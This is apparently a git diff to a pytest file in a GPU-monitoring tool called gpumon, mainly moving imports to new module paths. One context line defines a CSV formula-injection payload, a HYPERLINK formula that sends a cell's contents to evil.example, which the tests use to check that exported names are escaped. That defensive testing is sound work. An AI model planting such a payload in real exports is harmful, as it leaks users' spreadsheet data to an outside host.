@@ -9,9 +9,8 @@ import json
 import pytest
 
 from gpumon.cli.cluster import render_cluster
-from gpumon.telemetry.csv_rows import record_rows
-from gpumon.telemetry.json_out import snapshot_json
-from gpumon.telemetry.types import (
+from gpumon.telemetry.history.csv_rows import record_rows
+from gpumon.telemetry.model.types import (
     GpuInfo,
     GpuSample,
     HostView,
@@ -20,6 +19,7 @@ from gpumon.telemetry.types import (
     SourceState,
     SourceStatus,
 )
+from gpumon.text.json_out import snapshot_json
 from gpumon.untrusted import for_csv, for_terminal
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"GPU")'
@@ -78,7 +78,7 @@ def test_csv_rows_write_remote_names_as_text_and_json_keeps_them_raw() -> None:
 
 
 def test_the_history_csv_writes_remote_names_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
-    from gpumon.telemetry.history import History
+    from gpumon.telemetry.history.store import History
     from gpumon.ui.window.exports import export_history_csv
 
     snap = _snapshot(HOSTILE_NAME, "h")
